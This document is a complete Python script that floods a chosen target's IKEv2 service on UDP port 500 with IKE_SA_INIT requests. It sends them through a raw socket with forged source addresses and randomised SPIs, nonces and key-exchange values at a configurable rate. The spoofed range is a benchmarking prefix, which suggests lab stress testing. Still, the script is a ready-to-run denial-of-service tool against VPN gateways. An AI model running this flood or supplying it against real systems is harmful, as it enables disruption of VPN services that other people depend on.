"""Sends IKE_SA_INIT requests from addresses that are not its own.

    flood.py TARGET COUNT RATE

Each has a source address of 198.18.128.0/17, a port, an SPI, a nonce and a public value of its own; RATE a second.
"""

import random
import socket
import struct
import sys
import time


def request():
    """IKE_SA_INIT with AES-GCM-256, PRF_HMAC_SHA2_256 and Curve25519, and where its random parts begin."""
    def payload(following, body):
        return struct.pack("!BBH", following, 0, 4 + len(body)) + body

    transforms = [bytes([1, 0, 0, 20, 0x80, 14, 1, 0]), bytes([2, 0, 0, 5]), bytes([4, 0, 0, 31])]
    bodies = b"".join(struct.pack("!BBH", 0 if index == 2 else 3, 0, 4 + len(body)) + body
                      for index, body in enumerate(transforms))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(bodies), 1, 1, 0, 3) + bodies
    payloads = (payload(34, proposal) + payload(40, struct.pack("!HH", 31, 0) + bytes(32)) + payload(0, bytes(32)))
    header = bytes(16) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(payloads))
    return bytearray(header + payloads), 28 + 4 + len(proposal) + 8


def packet(message, target):
    """The message in UDP in IPv4; the kernel fills in what is zero."""
    udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(target))
    return bytearray(ip + udp + message)


def main():
    target, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    message, key = request()
    datagram = packet(message, target)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    source, start = random.Random(1), time.monotonic()
    network = struct.unpack("!I", socket.inet_aton("198.18.128.0"))[0]
    for number in range(count):
        struct.pack_into("!I", datagram, 12, network | source.getrandbits(15))
        struct.pack_into("!H", datagram, 20, 1024 | source.getrandbits(15))
        datagram[28:36] = source.randbytes(8)
        datagram[28 + key:28 + key + 32] = source.randbytes(32)
        datagram[28 + key + 36:28 + key + 68] = source.randbytes(32)
        sender.sendto(datagram, (target, 0))
        if number % 50 == 49:
            time.sleep(max(0, start + (number + 1) / rate - time.monotonic()))
    print(time.monotonic() - start)


main()
